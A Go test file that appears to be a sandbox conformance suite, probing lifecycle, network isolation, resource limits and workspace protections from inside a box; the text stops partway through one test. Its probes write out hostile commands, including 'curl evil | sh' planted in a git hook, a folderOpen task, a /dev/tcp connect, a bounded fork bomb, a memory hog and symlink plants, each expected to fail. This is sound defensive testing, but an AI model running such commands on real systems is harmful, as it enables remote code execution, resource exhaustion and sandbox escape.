// Package sandboxtest is the conformance suite every sandbox backend
// passes: the lifecycle (create, start, exec, stop, start again with the
// home volume intact, remove, nothing left behind) and the isolation probes
// run from inside a real box.
package sandboxtest

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/paddockhq/paddock/internal/base/errdefs"
	"github.com/paddockhq/paddock/internal/box/channel"
	"github.com/paddockhq/paddock/internal/box/runtimes"
	"github.com/paddockhq/paddock/internal/box/sandbox"
)

// Setup is what the suite needs from a backend's test.
type Setup struct {
	Backend sandbox.Backend
	// Image for CreateOptions (docker); empty elsewhere.
	Image string
	// Workspace returns a host directory the box may bind at /workspace.
	Workspace func(t *testing.T) string
	// ReadOnlyRoot: the whole root filesystem must be read-only (docker).
	ReadOnlyRoot bool
	// Reopen makes a new backend on the same state, as a restarted Runner
	// does; the suite checks it finds running boxes again.
	Reopen func(t *testing.T) sandbox.Backend
	// PodNetwork: the box has an interface of its cluster's network, which
	// policy outside the box confines (kubernetes). The probes that the box
	// has no interface but lo and no route give way to the guest's pod
	// self-test, which must find that the box reaches nothing.
	PodNetwork bool
	// Runtime for CreateOptions: every box of the suite runs on it, and
	// the isolation probes check its kernel (a gVisor runtime's box must
	// report gVisor's, not the host's). Empty is the backend's default.
	Runtime string
}

// Box is a running box with an open channel, for probes.
type Box struct {
	sandbox.Box
	Client *channel.Client
}

// Env is the environment probes run with.
var Env = []string{"PATH=/opt/paddock/bin:/opt/claude/bin:/usr/local/bin:/usr/bin:/bin", "HOME=" + sandbox.HomeDir, "LANG=C.UTF-8"}

// Run runs a command in the box and returns stdout, stderr and the exit code.
func (b *Box) Run(t testing.TB, script string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	p, err := b.Client.Exec(channel.ExecOptions{Argv: []string{"/bin/sh", "-c", script}, Env: Env, Dir: sandbox.WorkspaceDir, Stdout: &out, Stderr: &errb})
	if err != nil {
		t.Fatalf("exec %q: %v", script, err)
	}
	code, err := p.Wait()
	if err != nil {
		t.Fatalf("exec %q: %v", script, err)
	}
	return out.String(), errb.String(), code
}

// Connect opens a channel to a running box.
func Connect(t testing.TB, be sandbox.Backend, id string) *channel.Client {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	conn, err := be.Connect(ctx, id)
	if err != nil {
		t.Fatalf("connect: %v", err)
	}
	cl, err := channel.NewClient(conn)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := cl.Ping(time.Now().Add(20 * time.Second)); err != nil {
		t.Fatalf("ping: %v", err)
	}
	return cl
}

// StartBox creates and starts a box for a fresh session and connects.
func StartBox(t testing.TB, s Setup, session string, limits sandbox.Limits, workspace string) *Box {
	t.Helper()
	ctx := context.Background()
	bx, err := s.Backend.Create(ctx, sandbox.CreateOptions{Session: session, Image: s.Image, Runtime: s.Runtime, Limits: limits, Workspace: workspace})
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	t.Cleanup(func() { _ = s.Backend.Remove(context.Background(), bx.ID, sandbox.RemoveOptions{}) })
	if bx, err = s.Backend.Start(ctx, bx.ID); err != nil {
		t.Fatalf("start: %v", err)
	}
	b := &Box{Box: bx, Client: Connect(t, s.Backend, bx.ID)}
	t.Cleanup(func() { b.Client.Close() })
	return b
}

// objectsOf lists the backend's objects of one session.
func objectsOf(t testing.TB, be sandbox.Backend, session string) []sandbox.Object {
	t.Helper()
	all, err := be.List(context.Background())
	if err != nil {
		t.Fatalf("list: %v", err)
	}
	var out []sandbox.Object
	for _, o := range all {
		if o.Session == session {
			out = append(out, o)
		}
	}
	return out
}

func uniqueSession(prefix string) string {
	return fmt.Sprintf("%s-%d", prefix, time.Now().UnixNano()%1e9)
}

// Run runs the whole suite.
func Run(t *testing.T, s Setup) {
	t.Run("Lifecycle", func(t *testing.T) { lifecycle(t, s) })
	t.Run("Isolation", func(t *testing.T) { isolation(t, s) })
	t.Run("Limits", func(t *testing.T) { limits(t, s) })
	t.Run("Workspace", func(t *testing.T) { workspace(t, s) })
	t.Run("WorkspaceHostCode", func(t *testing.T) { workspaceHostCode(t, s) })
	t.Run("WorkspaceGitAllowList", func(t *testing.T) { workspaceGitAllowList(t, s) })
	t.Run("WorkspaceGitWorktree", func(t *testing.T) { workspaceGitWorktree(t, s) })
	t.Run("WorkspaceRefused", func(t *testing.T) { workspaceRefused(t, s) })
	t.Run("CloneOrigin", func(t *testing.T) { cloneOrigin(t, s) })
	t.Run("KeepVolumeAndPrune", func(t *testing.T) { keepVolume(t, s) })
	t.Run("ReadoptAfterRestart", func(t *testing.T) { readopt(t, s) })
	t.Run("GuestSocketSymlink", func(t *testing.T) { guestSocketSymlink(t, s) })
	if _, ok := s.Backend.(sandbox.Freezer); ok {
		t.Run("FreezeAndThawTwice", func(t *testing.T) { freezeTwice(t, s) })
	}
	if _, ok := s.Backend.(sandbox.Waiter); ok {
		t.Run("WaitForTheEnd", func(t *testing.T) { waitForTheEnd(t, s) })
	}
}

// freezeTwice: a Freezer's Freeze of a frozen box and Thaw of a thawed one
// succeed (someone else may have done it first: docker pause and unpause
// by hand), and the box is frozen, then running, as asked; a frozen box
// stopped meanwhile thaws to a conflict, not another error.
func freezeTwice(t *testing.T, s Setup) {
	ctx := context.Background()
	fz := s.Backend.(sandbox.Freezer)
	b := StartBox(t, s, uniqueSession("freeze"), sandbox.Limits{}, "")
	for i := range 2 {
		if err := fz.Freeze(ctx, b.ID); err != nil {
			t.Fatalf("freeze %d: %v", i+1, err)
		}
	}
	if _, _, err := b.Client.Ping(time.Now().Add(time.Second)); err == nil {
		t.Fatal("a frozen box's guest answered")
	}
	for i := range 2 {
		if err := fz.Thaw(ctx, b.ID); err != nil {
			t.Fatalf("thaw %d: %v", i+1, err)
		}
	}
	if out, _, code := b.Run(t, "echo thawed"); code != 0 || out != "thawed\n" {
		t.Fatalf("after the thaws: %d %q", code, out)
	}
	// A frozen box stopped from outside (docker stop, a daemon restart)
	// has nothing to thaw: a conflict, as any box that is not running.
	if err := fz.Freeze(ctx, b.ID); err != nil {
		t.Fatal(err)
	}
	if err := s.Backend.Stop(ctx, b.ID, sandbox.StopOptions{Timeout: time.Second}); err != nil {
		t.Fatalf("stop a frozen box: %v", err)
	}
	if err := fz.Thaw(ctx, b.ID); err != nil && !errdefs.Is(err, errdefs.ErrConflict) {
		t.Fatalf("thaw of a stopped box: %v, want nil or a conflict", err)
	}
	if err := s.Backend.Remove(ctx, b.ID, sandbox.RemoveOptions{}); err != nil {
		t.Fatal(err)
	}
}

// guestSocketSymlink: a box that puts a symlink at its own guest socket
// path, or in place of the directory that holds it, pointing at a socket on
// the host, never gets the Runner connected there. (An absolute symlink
// under /proc/<pid>/root resolves against the host's root: a backend that
// dialled that path as is would connect, as root, wherever the box says.)
func guestSocketSymlink(t *testing.T, s Setup) {
	dir := t.TempDir()
	l, err := net.Listen("unix", filepath.Join(dir, "guest.sock"))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var hits atomic.Int32
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	b := StartBox(t, s, uniqueSession("symlink"), sandbox.Limits{}, "")
	sockDir := filepath.Dir(sandbox.GuestSocket)
	for _, plant := range []struct{ name, script string }{
		{"socket", "rm -f " + sandbox.GuestSocket + " && ln -s " + filepath.Join(dir, "guest.sock") + " " + sandbox.GuestSocket},
		{"directory", "mv " + sockDir + " " + sockDir + ".old && ln -s " + dir + " " + sockDir},
	} {
		if out, errOut, code := b.Run(t, plant.script); code != 0 {
			// Docker's /run/paddock is a mount of its own, which the box
			// cannot move.
			t.Logf("%s: the box cannot put its symlink there: %d %s%s", plant.name, code, out, errOut)
			continue
		}
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		conn, err := s.Backend.Connect(ctx, b.ID)
		cancel()
		if err == nil {
			if cl, err := channel.NewClient(conn); err == nil {
				if _, _, err := cl.Ping(time.Now().Add(3 * time.Second)); err == nil {
					t.Errorf("%s: a guest answered through the box's symlink", plant.name)
				}
				cl.Close()
			} else {
				conn.Close()
			}
		}
		if n := hits.Load(); n != 0 {
			t.Fatalf("%s: the host socket behind the box's symlink got %d connections", plant.name, n)
		}
	}
}

// readopt: a box started by one backend instance keeps running and is
// found, connected to and removed by a new instance on the same state.
func readopt(t *testing.T, s Setup) {
	if s.Reopen == nil {
		t.Fatal("Setup.Reopen is required")
	}
	ctx := context.Background()
	session := uniqueSession("adopt")
	b := StartBox(t, s, session, sandbox.Limits{}, "")
	b.Run(t, `echo before > /tmp/mark; sleep 300 >/dev/null 2>&1 &`)
	if err := b.Client.Listen("127.0.0.1:4999", "x", time.Now().Add(5*time.Second)); err != nil {
		t.Fatal(err)
	}
	// The old Runner vanishes without closing anything.
	be2 := s.Reopen(t)
	got, err := be2.Inspect(ctx, b.ID)
	if err != nil || got.State != sandbox.StateRunning || got.Session != session {
		t.Fatalf("restarted backend sees %+v, %v", got, err)
	}
	nb := &Box{Box: got, Client: Connect(t, be2, b.ID)}
	defer nb.Client.Close()
	out, _, code := nb.Run(t, `cat /tmp/mark; pgrep -c sleep`)
	if code != 0 || out != "before\n1\n" {
		t.Fatalf("the box did not keep its state across the restart: %d %q", code, out)
	}
	// The new channel takes the box's listening address over.
	if err := nb.Client.Listen("127.0.0.1:4999", "x", time.Now().Add(10*time.Second)); err != nil {
		t.Fatalf("re-listen: %v", err)
	}
	if err := be2.Remove(ctx, b.ID, sandbox.RemoveOptions{}); err != nil {
		t.Fatal(err)
	}
	waitNothingLeft(t, be2, session)
}

func lifecycle(t *testing.T, s Setup) {
	ctx := context.Background()
	be := s.Backend
	session := uniqueSession("life")
	bx, err := be.Create(ctx, sandbox.CreateOptions{Session: session, Image: s.Image, Runtime: s.Runtime})
	if err != nil {
		t.Fatal(err)
	}
	defer be.Remove(ctx, bx.ID, sandbox.RemoveOptions{})
	if bx.State != sandbox.StateCreated || bx.Session != session || bx.Backend != be.Name() {
		t.Fatalf("created box %+v", bx)
	}
	if _, err := be.Create(ctx, sandbox.CreateOptions{Session: session, Image: s.Image, Runtime: s.Runtime}); !errdefs.Is(err, errdefs.ErrConflict) {
		t.Fatalf("second box for a session: %v", err)
	}
	if _, err := be.Create(ctx, sandbox.CreateOptions{Session: "Bad Name", Image: s.Image, Runtime: s.Runtime}); !errdefs.Is(err, errdefs.ErrInvalid) {
		t.Fatalf("bad session: %v", err)
	}
	kinds := map[sandbox.ObjectKind]bool{}
	for _, o := range objectsOf(t, be, session) {
		if o.Labels[sandbox.LabelManaged] != "1" {
			t.Fatalf("object without the managed label: %+v", o)
		}
		kinds[o.Kind] = true
	}
	if !kinds[sandbox.KindBox] || !kinds[sandbox.KindVolume] {
		t.Fatalf("List misses the box or the volume: %v", kinds)
	}
	if _, err := be.Connect(ctx, bx.ID); err == nil {
		t.Fatal("connected to a box that never started")
	}
	if bx, err = be.Start(ctx, bx.ID); err != nil || bx.State != sandbox.StateRunning {
		t.Fatalf("start: %+v %v", bx, err)
	}
	if again, err := be.Start(ctx, bx.ID); err != nil || again.State != sandbox.StateRunning {
		t.Fatalf("second start: %v", err)
	}
	b := &Box{Box: bx, Client: Connect(t, be, bx.ID)}
	out, _, code := b.Run(t, `echo hello > "$HOME/kept.txt" && id -u && pwd && exit 3`)
	if code != 3 || out != fmt.Sprintf("%d\n%s\n", sandbox.BoxUID, sandbox.WorkspaceDir) {
		t.Fatalf("exec: code %d out %q", code, out)
	}
	// A second, concurrent channel works too (a restarted Runner opens a new one).
	c2 := Connect(t, be, bx.ID)
	c2.Close()
	b.Client.Close()

	if err := be.Stop(ctx, bx.ID, sandbox.StopOptions{}); err != nil {
		t.Fatal(err)
	}
	if got, err := be.Inspect(ctx, bx.ID); err != nil || got.State != sandbox.StateStopped {
		t.Fatalf("after stop: %+v %v", got, err)
	}
	if err := be.Stop(ctx, bx.ID, sandbox.StopOptions{}); err != nil {
		t.Fatalf("second stop: %v", err)
	}
	cctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	if c, err := be.Connect(cctx, bx.ID); err == nil {
		c.Close()
		t.Fatal("connected to a stopped box")
	}
	cancel()
	if bx, err = be.Start(ctx, bx.ID); err != nil {
		t.Fatal(err)
	}
	b = &Box{Box: bx, Client: Connect(t, be, bx.ID)}
	out, _, code = b.Run(t, `cat "$HOME/kept.txt"`)
	if code != 0 || out != "hello\n" {
		t.Fatalf("home volume lost across stop/start: %d %q", code, out)
	}
	b.Client.Close()
	if err := be.Remove(ctx, bx.ID, sandbox.RemoveOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := be.Remove(ctx, bx.ID, sandbox.RemoveOptions{}); err != nil {
		t.Fatalf("second remove: %v", err)
	}
	if _, err := be.Inspect(ctx, bx.ID); !errdefs.Is(err, errdefs.ErrNotFound) {
		t.Fatalf("inspect removed box: %v", err)
	}
	waitNothingLeft(t, be, session)
}

// waitNothingLeft: no labelled object of the session remains.
func waitNothingLeft(t testing.TB, be sandbox.Backend, session string) {
	t.Helper()
	var left []sandbox.Object
	for i := 0; i < 100; i++ {
		if left = objectsOf(t, be, session); len(left) == 0 {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("left behind: %+v", left)
}

func isolation(t *testing.T, s Setup) {
	b := StartBox(t, s, uniqueSession("iso"), sandbox.Limits{}, "")
	probe := func(name, script string, check func(out, errs string, code int) error) {
		t.Run(name, func(t *testing.T) {
			out, errs, code := b.Run(t, script)
			if err := check(out, errs, code); err != nil {
				t.Fatalf("%v\nout: %s\nerr: %s", err, out, errs)
			}
		})
	}
	if s.PodNetwork {
		probe("ReachesNothing", `paddock guest selftest --pod-network`, func(out, _ string, code int) error {
			if code != 0 {
				return fmt.Errorf("the pod self-test failed (%d)", code)
			}
			return nil
		})
	} else {
		probe("OnlyLoopback", `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '`, func(out, _ string, _ int) error {
			if strings.TrimSpace(out) != "lo" {
				return fmt.Errorf("interfaces: %q", out)
			}
			return nil
		})
		probe("NoRoute", `tail -n +2 /proc/net/route | wc -l; cat /proc/net/ipv6_route 2>/dev/null | grep -v " lo$" | wc -l`, func(out, _ string, _ int) error {
			if strings.Fields(out)[0] != "0" || strings.Fields(out)[1] != "0" {
				return fmt.Errorf("routes: %q", out)
			}
			return nil
		})
	}
	probe("Kernel", `uname -r`, func(out, _ string, _ int) error {
		return checkKernel(s, strings.TrimSpace(out))
	})
	probe("NoResolver", `test ! -s /etc/resolv.conf && echo noconf; getent hosts example.com || echo noresolve; getent hosts localhost`, func(out, _ string, _ int) error {
		if !strings.Contains(out, "noconf") || !strings.Contains(out, "noresolve") {
			return fmt.Errorf("a name resolved or a resolver is configured: %q", out)
		}
		return nil
	})
	probe("NoCapabilities", `grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status`, func(out, _ string, _ int) error {
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if !strings.HasSuffix(l, "0000000000000000") {
				return fmt.Errorf("capability set not empty: %s", l)
			}
		}
		return nil
	})
	probe("NotRoot", `id -u; id -g`, func(out, _ string, _ int) error {
		if out != fmt.Sprintf("%d\n%d\n", sandbox.BoxUID, sandbox.BoxUID) {
			return fmt.Errorf("ids: %q", out)
		}
		return nil
	})
	probe("SystemDirsReadOnly", `for d in /usr /usr/bin /etc /opt/paddock/bin /bin /; do touch $d/.paddock-probe 2>/dev/null && echo "WROTE $d"; done; echo done`, func(out, _ string, _ int) error {
		if strings.Contains(out, "WROTE") {
			return fmt.Errorf("a system directory is writable: %q", out)
		}
		return nil
	})
	if s.ReadOnlyRoot {
		probe("RootFilesystemReadOnly", `for d in /var /srv /root /opt /media /mnt; do touch $d/.paddock-probe 2>/dev/null && echo "WROTE $d"; done; echo done`, func(out, _ string, _ int) error {
			if strings.Contains(out, "WROTE") {
				return fmt.Errorf("the root filesystem is writable: %q", out)
			}
			return nil
		})
	}
	probe("WritablePlaces", `for d in "$HOME" /workspace /tmp; do touch $d/.probe && echo "ok $d"; done`, func(out, _ string, _ int) error {
		if strings.Count(out, "ok ") != 3 {
			return fmt.Errorf("home, /workspace and /tmp must be writable: %q", out)
		}
		return nil
	})
	probe("HostProcessesInvisible", `ls /proc | grep -c '^[0-9]'; cat /proc/1/cmdline | tr '\0' ' '`, func(out, _ string, _ int) error {
		lines := strings.Split(strings.TrimSpace(out), "\n")
		n, _ := strconv.Atoi(lines[0])
		if n > 10 || !strings.Contains(out, "paddock guest") {
			return fmt.Errorf("%d processes visible, PID 1 is %q", n, lines[len(lines)-1])
		}
		return nil
	})
	probe("NoDockerSocket", `for p in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do test -e $p && echo "FOUND $p"; done; find / -xdev \( -name 'docker.sock' -o -name 'containerd.sock' \) 2>/dev/null; find /run /var/run /tmp /home /workspace -type s 2>/dev/null | grep -v '^/run/paddock/'; echo done`, func(out, _ string, _ int) error {
		if strings.TrimSpace(out) != "done" {
			return fmt.Errorf("a daemon socket is reachable: %q", out)
		}
		return nil
	})
	// No credential of a cluster (kubernetes: no service account token
	// mounted, no service links naming the API server).
	probe("NoServiceAccountToken", `for p in /var/run/secrets /run/secrets; do test -e $p && echo "FOUND $p"; done; env | grep -E '^KUBERNETES_(SERVICE|PORT)' ; echo done`, func(out, _ string, _ int) error {
		if strings.TrimSpace(out) != "done" {
			return fmt.Errorf("a cluster credential or address is in the box: %q", out)
		}
		return nil
	})
	probe("NoOutsideConnect", `exec 3<>/dev/tcp/1.1.1.1/80 2>/dev/null && echo CONNECTED; echo done`, func(out, _ string, _ int) error {
		if strings.Contains(out, "CONNECTED") {
			return fmt.Errorf("connected outside")
		}
		return nil
	})
}

// checkKernel: a box on a gVisor runtime reports gVisor's kernel (the
// sentry, e.g. 4.19.0-gvisor), never the host's release; a box on a
// shared-kernel runtime (runc, bwrap) reports the host's.
func checkKernel(s Setup, release string) error {
	var host unix.Utsname
	if err := unix.Uname(&host); err != nil {
		return err
	}
	hostRelease := unix.ByteSliceToString(host.Release[:])
	runtime := s.Runtime
	if runtime == "" {
		runtime = s.Backend.Capabilities(context.Background()).Runtime
	}
	switch runtimes.KindOf(runtime, "") {
	case runtimes.GVisor:
		if !strings.HasSuffix(release, "-gvisor") || release == hostRelease {
			return fmt.Errorf("a box on %s reports kernel %q (the host's is %q), not gVisor's", runtime, release, hostRelease)
		}
	case runtimes.Shared:
		if release != hostRelease {
			return fmt.Errorf("a box on %s reports kernel %q, not the host's %q", runtime, release, hostRelease)
		}
	}
	return nil
}

func limits(t *testing.T, s Setup) {
	caps := s.Backend.Capabilities(context.Background())
	t.Run("ForkBombStopped", func(t *testing.T) {
		if !caps.PidsLimit {
			t.Skip("this host offers no pids controller")
		}
		b := StartBox(t, s, uniqueSession("pids"), sandbox.Limits{Pids: 64}, "")
		if len(b.Notes) > 0 {
			for _, n := range b.Notes {
				if strings.Contains(n, "pids") {
					t.Fatalf("pids limit not applied: %v", b.Notes)
				}
			}
		}
		// A bounded bomb: ask for 400 processes; the limit allows 64.
		// Shells abort on a failed fork; perl counts the forks that worked
		// and stops at the first refusal. The children exit by themselves.
		const bomb = `exec perl -e 'my $n = 0; for (1..400) { my $p = fork(); last unless defined $p; if ($p == 0) { sleep 3; exit 0 } $n++ } print "$n\n"; 1 while wait() > 0'`
		if onGVisor(s) {
			wholeBoxEnds(t, s, b, bomb)
			return
		}
		out, errs, code := b.Run(t, bomb)
		if code != 0 {
			t.Fatalf("bomb: code %d out %q err %q", code, out, errs)
		}
		n, _ := strconv.Atoi(strings.TrimSpace(lastLine(out)))
		if n == 0 || n > 64 {
			t.Fatalf("%d processes ran under a limit of 64 (%q)", n, out)
		}
		t.Logf("the bomb got %d of 400 processes under a limit of 64", n)
		// The box is still usable after the bomb.
		if _, _, err := b.Client.Ping(time.Now().Add(10 * time.Second)); err != nil {
			t.Fatalf("guest gone after the bomb: %v", err)
		}
		if out, _, code := b.Run(t, `echo alive`); code != 0 || out != "alive\n" {
			t.Fatalf("box unusable after the bomb: %d %q", code, out)
		}
	})
	t.Run("MemoryLimitKillsOnlyTheHog", func(t *testing.T) {
		if !caps.MemoryLimit {
			t.Skip("this host offers no memory controller")
		}
		b := StartBox(t, s, uniqueSession("mem"), sandbox.Limits{MemoryBytes: 128 << 20}, "")
		for _, n := range b.Notes {
			if strings.Contains(n, "memory") {
				t.Fatalf("memory limit not applied: %v", b.Notes)
			}
		}
		// tail -c N keeps the last N bytes in memory: 512 MiB against a 128 MiB limit.
		const hog = `head -c 536870912 /dev/zero | tail -c 536870000 > /dev/null`
		if onGVisor(s) {
			wholeBoxEnds(t, s, b, hog)
			return
		}
		_, _, code := b.Run(t, hog)
		if code == 0 {
			t.Fatal("a 512 MiB allocation succeeded under a 128 MiB limit")
		}
		out, _, code := b.Run(t, `echo alive`)
		if code != 0 || out != "alive\n" {
			t.Fatalf("the box did not survive its hog: %d %q", code, out)
		}
	})
}

// onGVisor: the suite's boxes run on a gVisor runtime.
func onGVisor(s Setup) bool { return runtimes.KindOf(s.Runtime, "") == runtimes.GVisor }

// wholeBoxEnds runs script, which passes a limit of the box, in a box on
// gVisor: gVisor enforces the box's limits on the host's cgroup of its
// sentry, so the box ends whole (the sentry can make no thread, or the
// host's OOM killer takes it) where a shared-kernel box loses only the
// process. The box must end within a minute, and start again with its
// guest answering: contained, and recoverable.
func wholeBoxEnds(t *testing.T, s Setup, b *Box, script string) {
	t.Helper()
	var out, errb bytes.Buffer
	if p, err := b.Client.Exec(channel.ExecOptions{Argv: []string{"/bin/sh", "-c", script}, Env: Env, Dir: sandbox.WorkspaceDir, Stdout: &out, Stderr: &errb}); err == nil {
		code, err := p.Wait()
		t.Logf("on gVisor the script ended with %d %v (out %q err %q)", code, err, out.String(), errb.String())
	}
	ctx := context.Background()
	deadline := time.Now().Add(time.Minute)
	for {
		bx, err := s.Backend.Inspect(ctx, b.ID)
		if err != nil {
			t.Fatalf("inspect: %v", err)
		}
		if bx.State != sandbox.StateRunning {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the box on gVisor still runs a minute after passing its limit: the limit held nothing")
		}
		time.Sleep(200 * time.Millisecond)
	}
	b.Client.Close()
	if _, err := s.Backend.Start(ctx, b.ID); err != nil {
		t.Fatalf("start again after the limit ended it: %v", err)
	}
	b.Client = Connect(t, s.Backend, b.ID)
	if out, _, code := b.Run(t, `echo alive`); code != 0 || out != "alive\n" {
		t.Fatalf("box unusable after starting again: %d %q", code, out)
	}
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

func workspace(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	dir := s.Workspace(t)
	if err := os.WriteFile(filepath.Join(dir, "from-host.txt"), []byte("host\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	b := StartBox(t, s, uniqueSession("ws"), sandbox.Limits{}, dir)
	out, errs, code := b.Run(t, `cat /workspace/from-host.txt && echo box > /workspace/from-box.txt`)
	if code != 0 || out != "host\n" {
		t.Fatalf("%d %q %q", code, out, errs)
	}
	if got, err := os.ReadFile(filepath.Join(dir, "from-box.txt")); err != nil || string(got) != "box\n" {
		t.Fatalf("file written in the box: %q %v", got, err)
	}
	if u, g := ownerOf(t, filepath.Join(dir, "from-box.txt")); u != WorkspaceOwner || g != WorkspaceOwner {
		t.Fatalf("the box's file is %d:%d on the host, not the workspace owner's %d", u, g, WorkspaceOwner)
	}

	// Another box that may write the workspace's parent directory swaps
	// the workspace for a symlink to a directory of the host. The next
	// start must not bind that directory: it is refused, and works again
	// once the workspace is back.
	ctx := context.Background()
	if err := s.Backend.Stop(ctx, b.ID, sandbox.StopOptions{}); err != nil {
		t.Fatal(err)
	}
	secret := s.Workspace(t)
	if err := os.WriteFile(filepath.Join(secret, "secret.txt"), []byte("host only\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(dir, dir+".moved"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, dir); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Backend.Start(ctx, b.ID); err == nil {
		cl := Connect(t, s.Backend, b.ID)
		nb := &Box{Box: b.Box, Client: cl}
		out, _, _ := nb.Run(t, `cat /workspace/secret.txt 2>&1; ls /workspace`)
		cl.Close()
		t.Fatalf("started with the workspace swapped for a symlink; the box sees: %q", out)
	}
	os.Remove(dir)
	if err := os.Rename(dir+".moved", dir); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Backend.Start(ctx, b.ID); err != nil {
		t.Fatalf("start with the workspace back: %v", err)
	}
	cl := Connect(t, s.Backend, b.ID)
	defer cl.Close()
	nb := &Box{Box: b.Box, Client: cl}
	if out, _, code := nb.Run(t, `cat /workspace/from-box.txt`); code != 0 || out != "box\n" {
		t.Fatalf("workspace after the swap back: %d %q", code, out)
	}
}

func keepVolume(t *testing.T, s Setup) {
	ctx := context.Background()
	be := s.Backend
	session := uniqueSession("keep")
	b := StartBox(t, s, session, sandbox.Limits{}, "")
	b.Run(t, `echo kept > "$HOME/note"`)
	b.Client.Close()
	if err := be.Remove(ctx, b.ID, sandbox.RemoveOptions{KeepVolume: true}); err != nil {
		t.Fatal(err)
	}
	var vol *sandbox.Object
	for _, o := range objectsOf(t, be, session) {
		switch o.Kind {
		case sandbox.KindVolume:
			o := o
			vol = &o
		case sandbox.KindBox:
			t.Fatalf("box left after remove: %+v", o)
		}
	}
	if vol == nil {
		t.Fatal("the kept volume is gone")
	}
	// A new box of the same session finds the home it left.
	b2 := StartBox(t, s, session, sandbox.Limits{}, "")
	if out, _, _ := b2.Run(t, `cat "$HOME/note"`); out != "kept\n" {
		t.Fatalf("kept volume not reused: %q", out)
	}
	b2.Client.Close()
	if err := be.Remove(ctx, b2.ID, sandbox.RemoveOptions{KeepVolume: true}); err != nil {
		t.Fatal(err)
	}
	// prune's way: remove every object of the session by List.
	for _, o := range objectsOf(t, be, session) {
		if err := be.RemoveObject(ctx, o); err != nil {
			t.Fatalf("remove %+v: %v", o, err)
		}
	}
	waitNothingLeft(t, be, session)
}

// WorkspaceOwner owns the workspaces OwnedWorkspace makes: a user that is
// neither root nor any box's.
const WorkspaceOwner = 4321

// OwnedWorkspace makes a host workspace directory owned by WorkspaceOwner,
// below directories every uid may traverse.
func OwnedWorkspace(t testing.TB, parent string) string {
	t.Helper()
	d, err := os.MkdirTemp(parent, "ws")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(d, WorkspaceOwner, WorkspaceOwner); err != nil {
		t.Fatal(err)
	}
	return d
}

func ownerOf(t testing.TB, p string) (int, int) {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	return int(st.Uid), int(st.Gid)
}

// chownAll gives a tree to WorkspaceOwner, as a checkout of theirs is.
func chownAll(t testing.TB, root string) {
	t.Helper()
	err := filepath.Walk(root, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, WorkspaceOwner, WorkspaceOwner)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// workspaceHostCode: what the host runs later stays read-only in the box,
// whether it exists or not, and no file the box makes is setuid or setgid
// on the host; the rest of the workspace (and of .git) is writable.
func workspaceHostCode(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	for _, existing := range []bool{true, false} {
		t.Run(fmt.Sprintf("existing=%v", existing), func(t *testing.T) {
			dir := s.Workspace(t)
			files := map[string]string{".git/config": "[core]\n\tbare = false\n", ".git/HEAD": "ref: refs/heads/main\n", "main.go": "package main\n"}
			if existing {
				files[".git/hooks/pre-commit"] = "#!/bin/sh\nexit 0\n"
				files[".vscode/tasks.json"] = "{}\n"
				files[".envrc"] = "export A=1\n"
			}
			for p, c := range files {
				os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755)
				if err := os.WriteFile(filepath.Join(dir, p), []byte(c), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755)
			chownAll(t, dir)
			b := StartBox(t, s, uniqueSession("hostcode"), sandbox.Limits{}, dir)
			for _, script := range []string{
				`echo 'curl evil | sh' > .git/hooks/pre-commit`,
				`printf '[core]\n\thooksPath = /workspace/h\n' >> .git/config`,
				`mkdir -p .vscode; echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
				`echo 'echo pwned' > .envrc`,
				`mv .git .git-old`,
				`rm -rf .git/hooks`,
			} {
				if out, errs, code := b.Run(t, "cd /workspace && "+script); code == 0 {
					t.Errorf("the box could run %q: %q %q", script, out, errs)
				}
			}
			// Setuid and setgid bits, on the workspace and elsewhere.
			out, errs, _ := b.Run(t, `cd /workspace; echo x > f; chmod u+s f; chmod g+s f; chmod 6755 f; install -m 4755 /dev/null g; mkdir -m 2755 d;
				echo x > $HOME/h; chmod 4755 $HOME/h; stat -c '%a %n' f g d $HOME/h 2>&1; true`)
			for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
				if f := strings.Fields(l); len(f) == 2 && len(f[0]) == 4 && f[0][0] != '0' {
					t.Errorf("a set-id file in the box: %q (%q)", l, errs)
				}
			}
			// The work itself goes on: files, and .git's own.
